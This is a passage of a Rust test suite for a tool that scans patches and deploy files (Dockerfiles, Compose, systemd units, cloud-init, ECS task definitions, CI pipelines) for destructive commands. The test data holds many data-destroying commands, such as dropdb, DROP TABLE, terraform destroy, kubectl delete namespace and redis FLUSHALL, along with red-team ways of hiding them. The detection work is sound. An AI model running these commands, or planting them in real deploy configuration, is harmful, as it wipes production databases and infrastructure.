    assert_eq!(script(&["cache() {", "  redis-cli -h cart-cache.prod $1", "}", "cache INFO"]), Vec::<String>::new());
    assert_eq!(script(&["cache() {", "  redis-cli -h cart-cache.prod $1", "}", "cache FLUSHDB"]), ["redis flushdb"]);
    // An alias on a line of its own runs where it is called, with the
    // call's arguments after its text (a red team's miss).
    assert_eq!(script(&["alias nuke='kubectl delete namespace'", "nuke orders"]), ["Namespace"]);
    assert_eq!(script(&["alias r=\"redis-cli -h cart-cache.prod\"", "r FLUSHALL"]), ["redis flushall"]);
    assert_eq!(script(&["alias k='kubectl'", "k get pods"]), Vec::<String>::new());
    // A line continued with `\` joins the next as the shell does, with no
    // blank put between (`drop\` then `db orders` is `dropdb orders`).
    assert_eq!(script(&["drop\\", "db orders"]), ["database"]);
    assert_eq!(script(&["terraform \\", "  destroy -auto-approve"]), ["terraform destroy"]);
}

/// Red team 29: a guard script that searches for destroying commands, or
/// lists them, runs none of them; the same words run still count.
#[test]
fn searching_for_or_listing_commands_runs_none() {
    let script = script_destroys;
    let none = Vec::<String>::new();
    assert_eq!(
        script(&["grep -qiE 'terraform destroy|kubectl delete (ns|namespace)|helm uninstall|dropdb' \"$1\""]),
        none
    );
    assert_eq!(script(&["git diff origin/main -- scripts | grep -qE \"kubectl delete namespace|dropdb\""]), none);
    assert_eq!(script(&["grep -qE \"error|kubectl delete namespace\" build.log"]), none);
    assert_eq!(script(&["grep -q \"DROP TABLE\" db/migrations/*.sql && echo found"]), none);
    assert_eq!(script(&["DENY=( \"terraform destroy\" \"kubectl delete namespace\" \"dropdb\" )"]), none);
    assert_eq!(script(&["FORBIDDEN=\"terraform destroy|kubectl delete namespace\""]), none);
    // What runs still counts.
    assert_eq!(script(&["grep -q orders list.txt && kubectl delete namespace orders"]), ["Namespace"]);
    assert_eq!(script(&["bash -c \"kubectl get pods | kubectl delete namespace orders\""]), ["Namespace"]);
    assert_eq!(script(&["echo \"kubectl delete ns orders\" | bash"]), ["Namespace"]);
    assert_eq!(script(&["echo \"DROP TABLE orders;\" | psql \"$DATABASE_URL\""]), ["database"]);
    assert_eq!(script(&["T=terraform; $T destroy -auto-approve"]), ["terraform destroy"]);
}

/// Red team 29: a SQL script a client runs is a call the facade follows,
/// and its text, read as a migration's, destroys a database when it
/// drops or empties one.
#[test]
fn sql_scripts_clients_run_are_followed() {
    use blastgate_ingest::git::script_destroys as read_whole;
    let script = script_destroys;
    let call = |file: &str| vec![format!("runs task script {file} sql")];
    assert_eq!(script(&["psql \"$DATABASE_URL\" -f db/oneoff/current.sql"]), call("db/oneoff/current.sql"));
    assert_eq!(script(&["mysql -u root orders < scripts/sql/post_deploy.sql"]), call("scripts/sql/post_deploy.sql"));
    assert_eq!(script(&["sqlcmd -S prod -i ./sql/cleanup.sql"]), call("sql/cleanup.sql"));
    assert_eq!(script(&["cd db && psql --file=fix.sql"]), call("db/fix.sql"));
    assert_eq!(script(&["psql -f db/fix.sql \"postgres://app@orders-db.preview/app\""]), Vec::<String>::new());
    assert_eq!(script(&["psql \"$DATABASE_URL\" <<'SQL'"]), Vec::<String>::new());
    assert_eq!(
        read_whole("db/oneoff/current.sql", "sql", b"DROP TABLE orders_archive;\n"),
        Some(vec!["database".to_owned()])
    );
    assert_eq!(read_whole("db/oneoff/current.sql", "sql", b"UPDATE orders SET a = 1 WHERE id = 2;\n"), Some(vec![]));
    assert_eq!(read_whole("x.sql", "sql", b"-- tidy up\nTRUNCATE orders;\n"), Some(vec!["database".to_owned()]));
    assert_eq!(
        read_whole("x.sql", "sql", b"DELETE FROM orders WHERE id = 1;\nDELETE FROM carts;\n"),
        Some(vec!["database".to_owned()])
    );
    assert_eq!(read_whole("x.sql", "sql", b"DELETE FROM orders WHERE id = 1;\n-- DROP TABLE orders;\n"), Some(vec![]));
    // Red team 31: a function defined, and text in strings, run nothing.
    let function = b"CREATE FUNCTION purge_scratch() RETURNS void AS $$\nBEGIN\n  DELETE FROM tmp_rows;\nEND;\n$$ LANGUAGE plpgsql;\n";
    assert_eq!(read_whole("x.sql", "sql", function), Some(vec![]));
    let tagged = b"CREATE FUNCTION f() RETURNS void AS $body$ TRUNCATE scratch; $body$ LANGUAGE sql;\n";
    assert_eq!(read_whole("x.sql", "sql", tagged), Some(vec![]));
    let quoted = b"INSERT INTO audit (note) VALUES ('ran DROP TABLE orders_old; it''s gone');\n";
    assert_eq!(read_whole("x.sql", "sql", quoted), Some(vec![]));
    let after = b"CREATE FUNCTION f() RETURNS void AS $$ SELECT 1; $$ LANGUAGE sql;\nDROP TABLE orders;\n";
    assert_eq!(read_whole("x.sql", "sql", after), Some(vec!["database".to_owned()]));
    // A stray quote or an unclosed body hides nothing after it.
    let stray = b"-- the team's cleanup\nSELECT 'x;\nDROP TABLE orders;\n";
    assert_eq!(read_whole("x.sql", "sql", stray), Some(vec!["database".to_owned()]));
    let unclosed = b"SELECT $$ never closed;\nTRUNCATE orders;\n";
    assert_eq!(read_whole("x.sql", "sql", unclosed), Some(vec!["database".to_owned()]));
}

/// Red team 29: the commands a platform runs on every deploy or build,
/// from its own deploy file, count as a `Procfile`'s do; the file's other
/// lines run nothing. So do the commands of the places where a service or
/// machine runs them when deployed or booted (a later red team's misses):
/// a Compose service's `command:` and `entrypoint:`, a systemd unit's
/// `Exec*=` lines, cloud-init's `runcmd:` and `bootcmd:`, an ECS task
/// definition's `command` and `entryPoint`.
#[test]
fn platforms_deploy_commands_are_read() {
    use blastgate_ingest::git::{deploy_places, destructive_commands, is_script};
    // (The added lines of `path`: `text`'s lines.)
    let read = |path: &str, text: &str| -> Vec<String> {
        let added: String = text.lines().map(|l| format!("+{l}\n")).collect();
        let n = text.lines().count();
        let patch = format!("diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -0,0 +1,{n} @@\n{added}");
        let places = deploy_places(patch.as_bytes());
        destructive_commands(patch.as_bytes(), |p| is_script(p) || places.contains(p)).remove(path).unwrap_or_default()
    };
    let reset = "bundle exec rails db:schema:load DISABLE_DATABASE_ENVIRONMENT_CHECK=1";
    let cases: &[(&str, String, &[&str])] = &[
        ("render.yaml", format!("    preDeployCommand: {reset}"), &["database"]),
        ("railway.json", "    \"preDeployCommand\": [\"npx prisma migrate reset --force\"],".to_owned(), &["database"]),
        ("railway.toml", "preDeployCommand = \"npx prisma migrate reset --force\"".to_owned(), &["database"]),
        (
            "vercel.json",
            "  \"buildCommand\": \"prisma db push --accept-data-loss && next build\",".to_owned(),
            &["database"],
        ),
        ("netlify.toml", "  command = \"npx prisma migrate reset --force && next build\"".to_owned(), &["database"]),
        ("heroku.yml", format!("    - {reset}"), &["database"]),
        (".ebextensions/01_db.config", format!("    command: \"{reset}\""), &["database"]),
        // A JSON file on one line.
        (
            "vercel.json",
            "{\"framework\": \"nextjs\", \"buildCommand\": \"npx prisma migrate reset --force && next build\"}"
                .to_owned(),
            &["database"],
        ),
        (
            "railway.json",
            "{\"deploy\": {\"preDeployCommand\": [\"npx prisma migrate reset --force\"]}}".to_owned(),
            &["database"],
        ),
        // Other keys and files run nothing.
        ("render.yaml", format!("    name: {reset}"), &[]),
        ("config/app.config", format!("    command: \"{reset}\""), &[]),
        ("vercel.json", "  \"framework\": \"nextjs\",".to_owned(), &[]),
        // Docker Compose: a service's `command:` and `entrypoint:`, a
        // string, a flow list or a block list of one command's words, a
        // folded or literal block.
        (
            "docker-compose.yml",
            "services:\n  orders-db-migrate:\n    image: postgres:16\n    command: sh -c \"dropdb orders\"".to_owned(),
            &["database"],
        ),
        ("compose.yaml", "    command: [\"sh\", \"-c\", \"dropdb orders\"]\n    restart: \"no\"".to_owned(), &["database"]),
        (
            "deploy/docker-compose.prod.yml",
            "    entrypoint:\n      - redis-cli\n      - -h\n      - cart-cache\n      - FLUSHALL\n    image: redis:7".to_owned(),
            &["redis flushall"],
        ),
        ("compose.prod.yaml", "    command: >\n      sh -c \"kubectl delete\n      namespace orders\"".to_owned(), &["Namespace"]),
        (
            "compose.yml",
            "    command:\n    - sh\n    - -c\n    - |\n      echo migrating\n      terraform -chdir=/infra destroy -auto-approve"
                .to_owned(),
            &["terraform destroy"],
        ),
        // (An entrypoint and a command run as one command line, in either
        // order; a service's entrypoint and another's command do not.)
        (
            "docker-compose.yml",
            "    entrypoint: [\"redis-cli\", \"-h\", \"cart-cache\"]\n    command: [\"FLUSHALL\"]".to_owned(),
            &["redis flushall"],
        ),
        ("compose.yaml", "    command: FLUSHALL\n    entrypoint: redis-cli -h cart-cache".to_owned(), &["redis flushall"]),
        (
            "docker-compose.yml",
            "  cache:\n    entrypoint: [\"redis-cli\", \"-h\", \"cart-cache\"]\n  admin:\n    command: [\"FLUSHALL\"]".to_owned(),
            &[],
        ),
        // (`npm start` is a call of a task, followed to the repository's
        // `package.json` as a script's is: harmless unless that destroys.)
        ("docker-compose.yml", "    command: [\"npm\", \"start\"]".to_owned(), &["runs task package.json ./ start"]),
        ("docker-compose.yml", "    command: [\"gunicorn\", \"orders.wsgi\", \"-b\", \"0.0.0.0:8000\"]".to_owned(), &[]),
        (
            "docker-compose.yml",
            "    healthcheck:\n      test: [\"CMD\", \"redis-cli\", \"ping\"]\n      interval: 10s".to_owned(),
            &[],
        ),
        // (A service's healthcheck's `test:`, run in it over and over:
        // `CMD-SHELL`'s line, `CMD`'s words, a string; `NONE` runs
        // nothing.)
        (
            "docker-compose.yml",
            "    healthcheck:\n      test: [\"CMD-SHELL\", \"pg_isready -U postgres || dropdb orders\"]\n      interval: 10s"
                .to_owned(),
            &["database"],
        ),
        (
            "compose.yaml",
            "    healthcheck:\n      test: [\"CMD\", \"redis-cli\", \"-h\", \"cart-cache\", \"FLUSHALL\"]".to_owned(),
            &["redis flushall"],
        ),
        ("compose.yaml", "    healthcheck:\n      test: dropdb orders\n      retries: 3".to_owned(), &["database"]),
        (
            "docker-compose.yml",
            "    healthcheck:\n      test:\n        - CMD-SHELL\n        - kubectl delete namespace orders".to_owned(),
            &["Namespace"],
        ),
        (
            "docker-compose.yml",
            "    entrypoint: [\"redis-cli\", \"-h\", \"cart-cache\"]\n    healthcheck:\n      test: [\"CMD\", \"true\"]\n    command: [\"FLUSHALL\"]"
                .to_owned(),
            &["redis flushall"],
        ),
        ("docker-compose.yml", "    healthcheck:\n      test: [\"CMD-SHELL\", \"curl -f localhost\"]".to_owned(), &[]),
        ("docker-compose.yml", "    healthcheck:\n      test: [\"NONE\"]\n      disable: true".to_owned(), &[]),
        (
            "docker-compose.yml",
            "    # command: dropdb orders\n    environment:\n      - CLEANUP=dropdb orders\n    labels:\n      note: dropdb orders"
                .to_owned(),
            &[],
        ),
        ("composer.yaml", "command: dropdb orders".to_owned(), &[]),
        // systemd: a service unit's (or a drop-in's) `Exec*=` lines, past
        // their prefixes, continued over lines.
        (
            "deploy/orders-migrate.service",
            "[Service]\nType=oneshot\nExecStartPre=-/usr/bin/dropdb orders\nExecStart=/usr/bin/orders-api".to_owned(),
            &["database"],
        ),
        (
            "deploy/cache.service",
            "[Service]\nExecStop=@/bin/sh cleanup -c \\\n    'redis-cli -h cart-cache FLUSHALL'".to_owned(),
            &["redis flushall"],
        ),
        (
            "etc/systemd/system/orders.service.d/override.conf",
            "[Service]\nExecStartPost=!!/usr/bin/terraform -chdir=/srv/infra destroy -auto-approve".to_owned(),
            &["terraform destroy"],
        ),
        ("deploy/orders.service", "[Service]\nExecStart=/usr/bin/orders-api --port 8080".to_owned(), &[]),
        ("deploy/orders.service", "[Unit]\nDescription=Runs before dropdb orders".to_owned(), &[]),
        ("deploy/orders.service", "# ExecStartPre=/usr/bin/dropdb orders".to_owned(), &[]),
        // cloud-init: the items of `runcmd:` and `bootcmd:` (a string a
        // shell line, a list a command's words), in a file named so or
        // whose first line is `#cloud-config`; `user-data` that is a
        // script is read as one.
        ("cloud-init.yaml", "runcmd:\n  - dropdb orders".to_owned(), &["database"]),
        (
            "infra/boot.yml",
            "#cloud-config\npackages: [postgresql-client]\nbootcmd:\n- [ sh, -c, \"redis-cli -h cart-cache FLUSHALL\" ]"
                .to_owned(),
            &["redis flushall"],
        ),
        (
            "user-data",
            "#cloud-config\nruncmd:\n  - - kubectl\n    - delete\n    - namespace\n    - orders".to_owned(),
            &["Namespace"],
        ),
        ("user-data", "#!/bin/bash\nset -e\ndropdb orders".to_owned(), &["database"]),
        // (A YAML file whose patch shows cloud-init's keys at the top, its
        // first line not shown; the same key further in is another's.)
        ("infra/boot.yaml", "runcmd:\n  - dropdb orders".to_owned(), &["database"]),
        ("deploy/values.yaml", "jobs:\n  runcmd:\n    - dropdb orders".to_owned(), &[]),
        (
            "cloud-init.yaml",
            "write_files:\n  - path: /etc/motd\n    content: dropdb orders\nruncmd:\n  # - dropdb orders\n  - [ systemctl, restart, orders-api ]"
                .to_owned(),
            &[],
        ),
        // ECS: each container's `command` and `entryPoint` in a task
        // definition (named so, or holding `containerDefinitions`: a
        // CloudFormation template's too), over lines or on one.
        (
            "ecs/task-definition.json",
            "{\n  \"containerDefinitions\": [\n    {\n      \"name\": \"migrate\",\n      \"command\": [\"sh\", \"-c\", \"dropdb orders\"],\n      \"image\": \"postgres:16\"\n    }\n  ]\n}"
                .to_owned(),
            &["database"],
        ),
        (
            "deploy/orders-cache.json",
            "  \"containerDefinitions\": [\n    {\n      \"entryPoint\": [\n        \"redis-cli\",\n        \"-h\", \"cart-cache\",\n        \"FLUSHALL\"\n      ],\n      \"image\": \"redis:7\""
                .to_owned(),
            &["redis flushall"],
        ),
        (
            "deploy/orders.json",
            "{\"family\":\"orders\",\"containerDefinitions\":[{\"name\":\"m\",\"command\":[\"dropdb\",\"orders\"]}]}".to_owned(),
            &["database"],
        ),
        (
            "ecs/task-definition.json",
            "      \"entryPoint\": [\"redis-cli\", \"-h\", \"cart-cache\"],\n      \"command\": [\"FLUSHALL\"],".to_owned(),
            &["redis flushall"],
        ),
        (
            "ecs/task-definition.json",
            "{\"containerDefinitions\":[{\"entryPoint\":[\"redis-cli\",\"-h\",\"cart-cache\"],\"command\":[\"FLUSHALL\"]}]}".to_owned(),
            &["redis flushall"],
        ),
        (
            "infra/orders-stack.yaml",
            "      ContainerDefinitions:\n        - Name: migrate\n          Image: postgres:16\n          Command: [\"sh\", \"-c\", \"dropdb orders\"]"
                .to_owned(),
            &["database"],
        ),
        (
            "ecs/task-definition.json",
            "      \"name\": \"dropdb orders\",\n      \"command\": [\"/usr/local/bin/orders-api\", \"--port\", \"8080\"],".to_owned(),
            &[],
        ),
        ("deploy/orders.json", "{\"name\": \"orders\", \"command\": [\"dropdb\", \"orders\"]}".to_owned(), &[]),
        // (A container's `healthCheck` `command`, run in it over and over,
        // is read as a Compose healthcheck's `test:`.)
        (
            "ecs/task-definition.json",
            "{\"containerDefinitions\": [{\"name\": \"m\", \"healthCheck\": {\"command\": [\"CMD-SHELL\", \"dropdb orders\"]}}]}"
                .to_owned(),
            &["database"],
        ),
        (
            "ecs/task-definition.json",
            "      \"healthCheck\": {\n        \"command\": [\"CMD-SHELL\", \"curl -f http://localhost/ || exit 1\"]\n      },".to_owned(),
            &[],
        ),
        // A Dockerfile's `CMD`, `ENTRYPOINT`, `HEALTHCHECK ... CMD` (run
        // in every container of the image) and `RUN` (run where it is
        // built): the shell form, the exec form, continued lines, an
        // entrypoint and a command of exec form as one command, a `RUN`
        // here-document, `ONBUILD`; Podman's `Containerfile`.
        ("Dockerfile", "FROM postgres:16\nCMD dropdb -h orders-db orders".to_owned(), &["database"]),
        ("orders/Dockerfile.migrate", "CMD [\"sh\", \"-c\", \"dropdb orders\"]".to_owned(), &["database"]),
        (
            "deploy/api.dockerfile",
            "HEALTHCHECK --interval=30s --timeout=3s \\\n  CMD redis-cli -h cart-cache FLUSHALL || exit 1".to_owned(),
            &["redis flushall"],
        ),
        (
            "Dockerfile",
            "ENTRYPOINT [\"redis-cli\", \"-h\", \"cart-cache\"]\nEXPOSE 6379\nCMD [\"FLUSHALL\"]".to_owned(),
            &["redis flushall"],
        ),
        (
            "Dockerfile",
            "RUN --mount=type=secret,id=tf \\\n    # the state is remote\n    terraform -chdir=infra destroy -auto-approve".to_owned(),
            &["terraform destroy"],
        ),
        ("Containerfile", "RUN <<EOF\nset -e\nkubectl delete namespace orders\nEOF\nCMD [\"nginx\", \"-g\", \"daemon off;\"]".to_owned(), &["Namespace"]),
        ("Dockerfile", "onbuild run dropdb orders".to_owned(), &["database"]),
        // (A build's files are the image's: removing them destroys no
        // datastore's, as clearing a data folder at a container's start
        // does; what the build runs against the world still counts.)
        (
            "Dockerfile",
            "CMD rm -rf /var/lib/postgresql/data/* && exec postgres".to_owned(),
            &["database directory /var/lib/postgresql"],
        ),
        (
            "Dockerfile",
            "RUN rm -rf /tmp/build 2>&1 && PGHOST=orders-db dropdb orders; echo 'a && rm b'".to_owned(),
            &["database"],
        ),
        // What runs nothing, or nothing destructive: other instructions,
        // comments, a disabled healthcheck, the usual build steps, a text
        // a build prints, a document named for Dockerfiles.
        (
            "Dockerfile",
            "FROM node:20 AS build\n# CMD dropdb orders\nLABEL note=\"dropdb orders\"\nENV CLEANUP=\"dropdb orders\"\nHEALTHCHECK NONE"
                .to_owned(),
            &[],
        ),
        (
            "Dockerfile",
            "RUN apt-get update && apt-get install -y postgresql-client \\\n && rm -rf /var/lib/apt/lists/*\nCMD [\"nginx\", \"-g\", \"daemon off;\"]"
                .to_owned(),
            &[],
        ),
        ("Dockerfile", "RUN cat <<EOF\ndropdb orders\nEOF\nCMD [\"nginx\", \"-g\", \"daemon off;\"]".to_owned(), &[]),
        ("docs/dockerfile.md", "CMD dropdb orders".to_owned(), &[]),
        // (A red team's: here-documents end only on their exact end word,
        // a word may hold `-`, every one on a line is read, one in quotes
        // is none; a later `CMD` runs with the last entrypoint; a line
        // over 4 KiB is read in pieces; continued lines are joined with
        // nothing between, empty ones skipped, by the escape character a
        // directive sets.)
        ("Dockerfile", "FROM alpine\nRUN <<EOF\necho\nEOF\nCMD dropdb orders".to_owned(), &["database"]),
        ("Dockerfile", "RUN <<EOF\necho start\n  EOF\ndropdb orders\nEOF".to_owned(), &["database"]),
        ("Dockerfile", "RUN <<X-Y\nX\ndropdb orders\nX-Y".to_owned(), &["database"]),
        ("Dockerfile", "RUN <<A sh && <<B sh\necho one\nA\ndropdb orders\nB".to_owned(), &["database"]),
        ("Dockerfile", "RUN echo \"<<EOF\"\nCMD [\"dropdb\", \"orders\"]".to_owned(), &["database"]),
        (
            "Dockerfile",
            "ENTRYPOINT [\"redis-cli\", \"-h\", \"cart-cache\"]\nCMD [\"PING\"]\nCMD [\"FLUSHALL\"]".to_owned(),
            &["redis flushall"],
        ),
        ("Dockerfile", format!("RUN echo {} && dropdb orders", "x".repeat(4100)), &["database"]),
        ("Dockerfile", format!("RUN {}dropdb orders", "echo x; ".repeat(520)), &["database"]),
        ("Dockerfile", "RUN echo hi && drop\\\ndb orders".to_owned(), &["database"]),
        ("Dockerfile", "RUN echo hi \\\n\n  && dropdb orders".to_owned(), &["database"]),
        ("Dockerfile", "# escape=`\nFROM alpine\nRUN echo hi `\n  && dropdb orders".to_owned(), &["database"]),
        ("Dockerfile", "RUN python3 <<EOF\nimport subprocess\nsubprocess.run([\"dropdb\", \"orders\"])\nEOF".to_owned(), &["database"]),
        ("Dockerfile", "RUN rm -rf /tmp/`dropdb orders`".to_owned(), &["database"]),
        ("Dockerfile-prod", "RUN --mount=type=bind,source=\"my dir\",target=/x dropdb orders".to_owned(), &["database"]),
        (
            "Dockerfile",
            "FROM postgres:16\nRUN rm -rf /var/lib/postgresql/data/* && mkdir -p /docker-entrypoint-initdb.d\nRUN sudo rm -rf $PGDATA"
                .to_owned(),
            &[],
        ),
    ];
    for (path, line, want) in cases {
        assert_eq!(read(path, line), *want, "{path}: {line}");
    }
}

/// A red team's: a word edited in a place's list whose key the patch
/// shows only as context (`command:` above, an item changed below) was
/// not read; each side of a place read whole sees the key. A command in
/// both sides, moved or reworded, runs nothing new.
#[test]
fn places_are_read_whole_at_both_ends() {
    use blastgate_ingest::git::place_change_destroys;
    let cases: &[(&str, &str, &str, &[&str])] = &[
        (
            "docker-compose.yml",
            "services:\n  migrate:\n    image: postgres:16\n    command:\n      - sh\n      - -c\n      - echo hi\n",
            "services:\n  migrate:\n    image: postgres:16\n    command:\n      - sh\n      - -c\n      - dropdb orders\n",
            &["database"],
        ),
        (
            "deploy/cache.service",
            "[Service]\nExecStop=/usr/bin/redis-cli -h cart-cache \\\n  PING\n",
            "[Service]\nExecStop=/usr/bin/redis-cli -h cart-cache \\\n  FLUSHALL\n",
            &["redis flushall"],
        ),
        // (A Dockerfile's instruction continued over lines, its first
        // unchanged; a command moved to another instruction runs nothing
        // new.)
        (
            "orders/Dockerfile",
            "FROM postgres:16\nHEALTHCHECK --interval=10s \\\n  CMD pg_isready -U postgres\n",
            "FROM postgres:16\nHEALTHCHECK --interval=10s \\\n  CMD dropdb -U postgres orders\n",
            &["database"],
        ),
        (
            "orders/Dockerfile",
            "FROM postgres:16\nRUN dropdb --if-exists scratch\n",
            "FROM postgres:16\nRUN set -e && \\\n  dropdb --if-exists scratch\n",
            &[],
        ),
        (
            "infra/boot.yaml",
            "#cloud-config\nruncmd:\n  - - redis-cli\n    - -h\n    - cart-cache\n    - PING\n",
            "#cloud-config\nruncmd:\n  - - redis-cli\n    - -h\n    - cart-cache\n    - FLUSHALL\n",
            &["redis flushall"],
        ),
        (
            "ecs/orders.json",
            "{\n  \"containerDefinitions\": [\n    {\n      \"command\": [\n        \"sh\",\n        \"-c\",\n        \"echo hi\"\n      ]\n    }\n  ]\n}\n",
            "{\n  \"containerDefinitions\": [\n    {\n      \"command\": [\n        \"sh\",\n        \"-c\",\n        \"dropdb orders\"\n      ]\n    }\n  ]\n}\n",
            &["database"],
        ),
        // (The same command kept, and a service renamed around it.)
        (
            "compose.yaml",
            "services:\n  migrate:\n    command: sh -c \"dropdb orders\"\n",
            "services:\n  reset:\n    command: sh -c \"dropdb orders\"\n    restart: \"no\"\n",
            &[],
        ),
    ];
    for (path, before, after, want) in cases {
        assert_eq!(place_change_destroys(path, before.as_bytes(), after.as_bytes()).unwrap(), *want, "{path}: {after}");
    }
    // A value past the bounds of what one key holds (200 lines, 64 KiB) is
    // read in pieces, never left unread: the last of 250 `runcmd:` items,
    // a flow list of 300 lines, a systemd line continued past 64 KiB.
    let items: String = (0..250).map(|i| format!("  - echo step{i}\n")).collect();
    let padded = format!("#cloud-config\nruncmd:\n{items}  - dropdb orders\n");
    let flow: String = (0..300).map(|i| format!("    \"echo {i}\",\n")).collect();
    let flowed = format!("#cloud-config\nruncmd: [\n{flow}    \"dropdb orders\"\n  ]\n");
    let words: String = (0..40).map(|_| format!("  {} \\\n", "--verbose ".repeat(200))).collect();
    let unit = format!("[Service]\nExecStartPre=/usr/bin/env \\\n{words}  --quiet ; dropdb orders\n");
    for (path, text) in [("infra/boot.yaml", padded), ("infra/flow.yaml", flowed), ("deploy/orders.service", unit)] {
        assert_eq!(place_change_destroys(path, b"", text.as_bytes()).unwrap(), ["database"], "{path}");
    }
}

/// Red team 12: Docker's volumes removed on another host count, as the
/// host is named on the line, by the file's `DOCKER_HOST` or
/// `DOCKER_CONTEXT`, or by `docker context use`; a CI job's own Docker
/// (Docker-in-Docker, the runner's socket) holds nothing that counts.
#[test]
fn docker_volumes_count_on_another_host() {
    use blastgate_ingest::git::pipeline_destroys;
    let script = script_destroys;
    assert_eq!(
        script(&["export DOCKER_HOST=ssh://deploy@orders-db-1", "docker compose down -v"]),
        ["docker compose down --volumes"]
    );
    assert_eq!(script(&["docker context use orders-prod", "docker volume rm orders_pgdata"]), ["docker volume rm"]);
    assert_eq!(script(&["docker context use default", "docker volume rm orders_pgdata"]), Vec::<String>::new());
    assert_eq!(
        script(&["export DOCKER_HOST=unix:///var/run/docker.sock", "docker compose down -v"]),
        Vec::<String>::new()
    );
    let remote = b"deploy:\n  variables:\n    DOCKER_HOST: ssh://deploy@orders-db-1\n  script:\n    - docker compose down --volumes\n    - docker compose up -d\n";
    assert_eq!(pipeline_destroys(remote).unwrap().into_iter().collect::<Vec<_>>(), ["docker compose down --volumes"]);
    let dind = b"integration:\n  services: [docker:dind]\n  variables:\n    DOCKER_HOST: tcp://docker:2375\n  script:\n    - docker compose up -d\n    - go test -tags integration ./...\n    - docker compose down -v\n";
    assert_eq!(pipeline_destroys(dind).unwrap().into_iter().collect::<Vec<_>>(), Vec::<String>::new());
    let runner = b"jobs:\n  integration:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker compose up -d\n      - run: docker compose down --volumes\n";
    assert!(pipeline_destroys(runner).unwrap().is_empty());
}

/// Destructive commands are read by tool, after whatever precedes them,
/// with options and their values told apart from what the command names.
#[test]
fn destructive_commands_are_read_by_tool() {
    use blastgate_ingest::git::destructive_commands;
    let read = |line: &str| -> Vec<String> {
        let patch =
            format!("diff --git a/ops/x.sh b/ops/x.sh\n--- a/ops/x.sh\n+++ b/ops/x.sh\n@@ -0,0 +1 @@\n+{line}\n");
        destructive_commands(patch.as_bytes(), |_| true).remove("ops/x.sh").unwrap_or_default()
    };
    let cases: &[(&str, &[&str])] = &[
        ("terraform -chdir=envs/prod destroy -auto-approve", &["terraform destroy"]),
        ("tofu apply -destroy", &["terraform destroy"]),
        ("terragrunt run-all destroy --terragrunt-non-interactive", &["terraform destroy"]),
        ("terraform destroy -target=module.data.aws_db_instance.main", &["aws_db_instance"]),
        ("terraform apply -replace aws_rds_cluster.orders", &["aws_rds_cluster"]),
        ("docker run hashicorp/terraform:1.9 destroy", &["terraform destroy"]),
        ("sudo -E pulumi down --yes", &["pulumi destroy"]),
        ("npx cdk destroy --force", &["cdk destroy"]),
        // Past global options with values (red team 29).
        ("helmfile -e production destroy", &["helmfile destroy"]),
        ("helmfile --environment production --selector name=orders-db destroy", &["helmfile destroy"]),
        ("pulumi --cwd infra destroy --yes --stack prod", &["pulumi destroy"]),
        ("pulumi -C infra destroy --yes", &["pulumi destroy"]),
        ("serverless --stage prod remove", &["serverless remove"]),
        ("pulumi --cwd infra up --yes", &[]),
        ("sam logs --name delete", &[]),
        (
            "pulumi up --yes --stack prod --replace 'urn:pulumi:prod::orders::aws:rds/instance:Instance::orders-db'",
            &["aws:rds/instance:Instance"],
        ),
        // Wrappers and other ways to tell Terraform to destroy.
        ("terramate run -- terraform destroy -auto-approve", &["terraform destroy"]),
        ("terramate run --tags prod -- terraform apply", &[]),
        ("atmos terraform destroy rds -s prod", &["terraform destroy"]),
        ("atmos terraform apply rds -s prod", &[]),
        ("export TF_CLI_ARGS_apply=\"-destroy\"", &["terraform destroy"]),
        ("    TF_CLI_ARGS_apply: \"-replace=aws_db_instance.orders\"", &["aws_db_instance"]),
        ("    TF_CLI_ARGS_plan: \"-destroy\"", &[]),
        ("    TF_CLI_ARGS: \"-no-color\"", &[]),
        // Data platforms' command lines.
        ("aws kms schedule-key-deletion --key-id alias/orders-prod --pending-window-in-days 7", &["aws_kms_key"]),
        (
            "aws secretsmanager delete-secret --secret-id orders/db --force-delete-without-recovery",
            &["aws_secretsmanager_secret"],
        ),
        ("aws secretsmanager delete-secret --secret-id orders/db", &[]),
        ("aws ecr delete-repository --repository-name orders --force", &["aws_ecr_repository"]),
        ("az keyvault purge --name orders-kv", &["azurerm_key_vault"]),
        ("mysqladmin -h db.prod -u root drop orders -f", &["database"]),
        ("npx wrangler d1 delete orders-prod -y", &["cloudflare_d1_database"]),
        ("npx wrangler r2 bucket delete orders-prod", &["r2_bucket"]),
        ("firebase firestore:delete --all-collections --force --project acme-prod", &["database"]),
        ("atlas clusters delete orders-prod --force", &["database"]),
        ("flux delete kustomization orders --silent", &["flux kustomization orders"]),
        ("flux delete helmrelease orders-db", &["helm_release"]),
        ("flux get kustomizations", &[]),
        ("mysqladmin -f drop orders", &["database"]),
        // Wrappers that run the command after them (a red team's misses),
        // their own argument aside: a user, a lock file, a root.
        ("gosu postgres dropdb orders", &["database"]),
        ("su-exec postgres dropdb orders", &["database"]),
        ("runuser -u postgres -- dropdb orders", &["database"]),
        ("chpst -u postgres dropdb orders", &["database"]),
        ("s6-setuidgid postgres dropdb orders", &["database"]),
        ("setpriv --reuid=postgres dropdb orders", &["database"]),
        ("flock -n /tmp/deploy.lock kubectl delete namespace orders", &["Namespace"]),
        ("chroot /srv/db dropdb orders", &["database"]),
        ("ionice -c3 nice systemd-run --wait dropdb orders", &["database"]),
        ("nsenter -t 1 -m tini -- dumb-init unbuffer chronic setsid dropdb orders", &["database"]),
        ("gosu postgres psql -c 'SELECT 1'", &[]),
        // Migration tools that run every down migration or drop the schema,
        // and restores that drop what the database holds first.
        ("alembic -c alembic.ini downgrade base", &["database"]),
        // A repository's script or a package's script named like one of
        // these tools is still the script (a regression found before it
        // shipped).
        ("./scripts/migrate", &["runs task script scripts/migrate -:"]),
        ("npm run migrate", &["runs task package.json ./ migrate"]),
        ("alembic downgrade -1", &[]),
        ("python manage.py migrate orders zero", &["database"]),
        ("python manage.py migrate orders 0007", &[]),
        ("RAILS_ENV=production bin/rails db:migrate VERSION=0", &["database"]),
        ("bin/rails db:migrate", &[]),
        ("MIX_ENV=prod mix ecto.rollback --all", &["database"]),
        ("dbmate --url \"$DATABASE_URL\" drop", &["database"]),
        ("dbmate up", &[]),
        ("goose -dir db postgres \"$DATABASE_URL\" reset", &["database"]),
        ("goose -dir db postgres \"$DATABASE_URL\" up", &[]),
        ("sqlx database drop -y", &["database"]),
        ("sqlx database create", &[]),
        ("diesel database reset", &["database"]),
        ("diesel migration run", &[]),
        ("atlas schema clean -u \"$DATABASE_URL\" --auto-approve", &["database"]),
        ("migrate -path db -database \"$DATABASE_URL\" drop -f", &["database"]),
